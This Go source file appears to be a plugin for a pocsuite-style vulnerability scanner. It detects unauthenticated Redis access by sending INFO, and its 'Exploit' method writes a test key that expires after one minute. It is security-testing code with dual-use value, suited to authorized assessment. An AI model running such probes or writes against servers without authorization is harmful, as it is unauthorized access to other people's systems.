package plugins

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/redis/go-redis/v9"

	"pocsuite/internal/model"
	"pocsuite/internal/poc"
)

const (
	redisTestKey   = "pocsuite_test_key"
	redisTestValue = "pocsuite_test_value"
)

// RedisUnauth Redis 未授权访问检测
type RedisUnauth struct {
	info model.VulnInfo
}

func NewRedisUnauth() *RedisUnauth {
	return &RedisUnauth{
		info: model.VulnInfo{
			CWEID:            "CWE-306",
			Name:             "Redis Unauthorized Access Vulnerability",
			Description:      "Redis服务未配置访问密码，导致可以未经授权访问并操作Redis服务器。",
			Severity:         model.SeverityHigh,
			AffectedVersions: []string{"All"},
			References:       []string{"https://redis.io/topics/security"},
			Product:          "redis",
		},
	}
}

func (p *RedisUnauth) Name() string         { return "redis-unauth" }
func (p *RedisUnauth) Description() string  { return p.info.Description }
func (p *RedisUnauth) Info() model.VulnInfo { return p.info }

func (p *RedisUnauth) client(cfg model.PocConfig) (*redis.Client, error) {
	addr, err := hostPort(cfg.Target, 6379)
	if err != nil {
		return nil, err
	}
	timeout := timeoutOf(cfg)
	return redis.NewClient(&redis.Options{
		Addr:         addr,
		DialTimeout:  timeout,
		ReadTimeout:  timeout,
		WriteTimeout: timeout,
		MaxRetries:   -1,
		PoolSize:     1,
	}), nil
}

// Verify 发送 INFO 命令，无需认证即可返回则存在漏洞
func (p *RedisUnauth) Verify(ctx context.Context, cfg model.PocConfig) (model.PocResult, error) {
	rdb, err := p.client(cfg)
	if err != nil {
		return model.PocResult{}, err
	}
	defer rdb.Close()

	info, err := rdb.Info(ctx, "server").Result()
	if err != nil {
		if isAuthError(err) {
			return poc.NewResult(p, cfg, false, "目标Redis服务不存在未授权访问漏洞"), nil
		}
		return model.PocResult{}, poc.RequestError("INFO命令执行失败", err)
	}

	details := "目标Redis服务存在未授权访问漏洞"
	if v := redisVersion(info); v != "" {
		details += fmt.Sprintf(" (redis_version: %s)", v)
	}
	return poc.NewResult(p, cfg, true, details), nil
}

// Exploit 写入一个带过期时间的测试键
func (p *RedisUnauth) Exploit(ctx context.Context, cfg model.PocConfig) (model.PocResult, error) {
	if err := poc.RequireVerified(ctx, p, cfg); err != nil {
		return model.PocResult{}, err
	}

	rdb, err := p.client(cfg)
	if err != nil {
		return model.PocResult{}, err
	}
	defer rdb.Close()

	if err := rdb.Set(ctx, redisTestKey, redisTestValue, time.Minute).Err(); err != nil {
		return model.PocResult{}, poc.ExecutionError("写入测试数据失败: %v", err)
	}
	return poc.NewResult(p, cfg, true, fmt.Sprintf("成功写入测试数据: %s = %s", redisTestKey, redisTestValue)), nil
}

func isAuthError(err error) bool {
	msg := err.Error()
	return strings.HasPrefix(msg, "NOAUTH") ||
		strings.Contains(msg, "Authentication required") ||
		strings.Contains(msg, "DENIED")
}

func redisVersion(info string) string {
	for _, line := range strings.Split(info, "\n") {
		if v, ok := strings.CutPrefix(strings.TrimSpace(line), "redis_version:"); ok {
			return v
		}
	}
	return ""
}
